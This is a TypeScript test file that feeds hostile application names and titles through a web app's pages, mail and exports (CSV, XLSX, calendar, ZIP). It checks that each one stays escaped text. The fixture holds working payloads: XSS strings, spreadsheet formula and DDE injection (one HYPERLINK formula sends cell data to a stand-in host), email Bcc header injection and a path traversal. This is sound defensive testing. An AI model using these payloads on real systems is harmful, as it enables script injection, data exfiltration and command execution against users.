import { sql } from 'drizzle-orm';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { htmlOf } from '../src/mail/html.ts';
import type { Page } from './support/client.ts';
import { crawl } from './support/crawl.ts';
import type { StoryApplication } from './support/story/applications.ts';
import type { Group } from './support/story/cast.ts';
import { type World, wholeWorld } from './support/world.ts';
import { unzipped } from './support/zip.ts';

/** As no form lets a name in: past `cleanText`, as an old row or another program could have left it. */
const hostile: Readonly<Record<Group, Partial<StoryApplication>>> = {
  settled: {
    groupName: '=HYPERLINK("http://zly.example/?x="&A1;"kliknij")',
    title: '=1+1<img src=x onerror=alert(1)>',
  },
  running: { groupName: '<img src=x onerror=alert(2)>', title: '"><script>alert(3)</script>' },
  negotiated: { groupName: '+48 600 100 200', title: 'Sad\r\nBcc: zly@example.org' },
  reserve: { groupName: "@SUM(1+1)*cmd|'/C calc'!A0", title: '../../etc/passwd' },
  refused: { groupName: '\t=1+1', title: '-2+3+cmd' },
  rejected: { groupName: '\r=1+1', title: '" onmouseover="alert(4)' },
  withdrawn: { groupName: '{{secret}} <a href="javascript:alert(5)">', title: '\r\n\r\n<svg onload=alert(6)>' },
  draft: { groupName: '" autofocus onfocus="alert(7)', title: '<style>body{display:none}</style>' },
};
const raw = [
  ...['<img src=x', '<script>alert', '" onmouseover="alert', '<svg onload', '" autofocus onfocus=', '<style>body{'],
  ...['<a href="javascript:', 'zly.example/?x="&A1'],
];
const roles = [
  ...['visitor', 'coordinator', 'accountant', 'director', 'inspector', 'administrator'],
  ...['juror', 'leader of settled', 'leader of running', 'leader of rejected', 'leader of draft'],
];

let world: World;
const formats = new Set<string>();
beforeAll(async () => {
  world = await wholeWorld((group) => hostile[group]);
  await world.app.drain();
}, 120_000);
afterAll(() => world.app.close());

describe('B5: names that are formulas, markup and headers', () => {
  test.each(roles)(
    'stay words on every page and in every file that %s opens',
    async (who) => {
      const { pages } = await crawl(
        world.as(who),
        world.routes,
        who === 'visitor' ? ['/'] : ['/', '/pulpit', '/konto'],
        3,
      );
      const wrong = (
        await Promise.all(
          pages.map(async ({ path, page }) => (await faultsOf(page)).map((fault) => `${path}: ${fault}`)),
        )
      ).flat();
      expect(wrong).toEqual([]);
      expect(world.faults).toEqual([]);
      const escaped = pages.filter(({ page }) =>
        /&lt;(?:img src|script&gt;|svg|style)|&quot; (?:onmouseover|autofocus)/.test(page.html),
      );
      if (who !== 'administrator') expect(escaped.length).toBeGreaterThan(0);
    },
    120_000,
  );

  test('were looked for in every format there is', () => {
    expect([...formats]).toEqual(
      expect.arrayContaining([
        ...['text/html', 'text/csv', 'text/calendar', 'application/zip', 'application/json', 'application/pdf'],
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      ]),
    );
  });

  test('reach no header of a letter and no markup of its text', async () => {
    const letters = world.app.deps.db.all<{ id: number }>(sql`select id from letters order by id`);
    const coordinator = world.as('coordinator');
    const mails: string[] = [];
    for (const { id } of letters) {
      const answer = await coordinator.get(`/skrzynka/${id}/list.eml`);
      if (answer.status === 200) mails.push(answer.body.toString('utf8'));
    }
    expect(mails.length).toBeGreaterThan(10);
    for (const mail of mails) {
      const head = mail.slice(0, mail.indexOf('\r\n\r\n'));
      expect(head).not.toMatch(/^Bcc:/im);
      expect(head.match(/^(?:subject|to|from):/gim)?.toSorted()).toEqual(['From:', 'Subject:', 'To:']);
    }
    const texts = world.app.deps.db.all<{ subject: string; body: string }>(sql`select subject, body from letters`);
    expect(texts.filter(({ subject }) => /[\r\n]/.test(subject))).toEqual([]);
    const markup = texts.map(({ subject, body }) => htmlOf(body, subject, world.app.url));
    expect(markup.filter((html) => raw.some((one) => html.includes(one)))).toEqual([]);
    expect(markup.filter((html) => html.includes('&lt;img src')).length).toBeGreaterThan(0);
  });
});

/** What is wrong with an answer whatever its kind. */
async function faultsOf(page: Page): Promise<string[]> {
  const type = String(page.headers['content-type'] ?? '');
  formats.add(type.replace(/;.*/, ''));
  const faults = Object.values(page.headers).some((value) => /[\r\n]/.test(String(value)))
    ? ['a header of two lines']
    : [];
  if (page.status >= 500) return [...faults, `answered ${page.status}`];
  if (type.startsWith('text/html')) return [...faults, ...raw.filter((one) => page.html.includes(one))];
  if (type.startsWith('text/csv')) return [...faults, ...formulasIn(page.body.toString('utf8'))];
  if (type.includes('spreadsheetml')) return [...faults, ...(await formulasOf(page.body))];
  if (type.startsWith('text/calendar')) return [...faults, ...strangeLines(page.body.toString('utf8'))];
  if (type === 'application/zip') return [...faults, ...(await strangeEntries(page.body))];
  return faults;
}

function formulasIn(csv: string): string[] {
  const cells = csv.replace(/^\uFEFF/, '').match(/"(?:[^"]|"")*"|[^;\r\n]+/g) ?? [];
  return cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[\s]*[=+@\t\r]|^-(?!\d+,\d\d$)/.test(cell));
}

async function formulasOf(workbook: Buffer): Promise<string[]> {
  const { sheets } = await readXlsx(workbook);
  const formulas = sheets.flatMap(({ cells }) => [...(cells?.values() ?? [])].map(({ formula }) => formula ?? ''));
  return formulas.filter((formula) => formula !== '' && !/^SUM(?:IF)?\([A-Z]\d+:[A-Z]\d+/.test(formula));
}

function strangeLines(calendar: string): string[] {
  return calendar.split('\r\n').filter((line) => line !== '' && !/^(?: |[A-Z-]+[;:])/.test(line));
}

async function strangeEntries(zip: Buffer): Promise<string[]> {
  const files = await unzipped(zip);
  const manifest = files.get('manifest.csv')?.toString('utf8') ?? '';
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what a name must not hold
  const paths = [...files.keys()].filter((path) => /(?:^|\/)\.\.(?:\/|$)|[\x00-\x1f<>"|?*]/.test(path));
  return [...paths, ...formulasIn(manifest)];
}
